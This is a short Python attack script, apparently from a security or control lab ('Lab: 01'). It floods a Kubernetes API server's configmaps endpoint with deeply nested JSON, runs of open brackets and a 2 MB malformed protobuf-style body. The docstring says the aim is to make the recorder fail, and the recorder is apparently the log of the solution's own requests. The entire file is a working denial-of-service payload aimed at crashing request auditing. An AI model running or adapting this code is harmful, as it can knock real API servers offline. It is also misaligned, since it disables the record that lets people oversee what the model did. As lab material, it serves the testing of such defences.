"""Tries to make the recorder fail with bodies that are nested too deeply, or are a number without an end.

Lab: 01
Earns: what the solution does, which goes on after it
May not touch: the record of its requests
"""

import http.client

BODIES = (b'{"metadata":' * 50_000, b"[" * 50_000, b"k8s\x00" + b"\xff" * 2_000_000)


def attack(client):
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    for method, name in (("POST", ""), ("PATCH", "/x"), ("PUT", "/x")):
        for body in BODIES:
            connection = http.client.HTTPConnection(host, int(port), timeout=10)
            try:
                connection.request(method, f"/api/v1/namespaces/{client.namespace}/configmaps{name}", body)
                connection.getresponse().read()
            except (OSError, http.client.HTTPException):
                pass
            connection.close()
